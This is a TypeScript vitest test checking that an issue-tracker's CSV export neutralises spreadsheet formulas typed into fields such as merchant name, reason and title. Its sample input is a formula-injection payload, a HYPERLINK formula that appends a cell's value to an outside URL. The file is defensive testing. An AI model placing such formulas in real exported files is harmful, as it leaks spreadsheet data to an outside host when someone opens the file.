import { parse } from "csv-parse/sync";
import { expect, test } from "vitest";

import { newId } from "@/lib/core/ids";
import type { Issue } from "@/lib/contracts/shapes";
import { csvHeader, csvLines } from "@/lib/formats/csv";
import { ISSUE_COLUMNS } from "@/lib/services/exports/columns";

test("what people have typed about an issue is no formula to whoever opens the file", () => {
  const typed = '=HYPERLINK("https://example.org?"&A1)';
  const issue: Issue = {
    id: newId<"issue">(0),
    kind: "chain-break",
    severity: "critical",
    subject: { type: "ledger", id: "l" },
    merchantId: null,
    merchantName: typed,
    ledgerUid: null,
    accountId: null,
    openedAt: "2026-11-21T11:00:00Z",
    snoozedUntil: null,
    snoozedBy: null,
    assignedId: null,
    assignedName: typed,
    resolvedAt: "2026-11-21T12:00:00Z",
    resolvedBy: typed,
    reason: typed,
    title: typed,
    detail: typed,
    facts: {},
  };
  const file = csvHeader(ISSUE_COLUMNS) + csvLines(ISSUE_COLUMNS, [issue]);
  const [row] = parse<Record<string, string>>(file, { columns: true });
  for (const column of ["merchantName", "assignedName", "resolvedBy", "reason", "title", "detail"])
    expect([column, row?.[column]]).toEqual([column, `'${typed}`]);
});
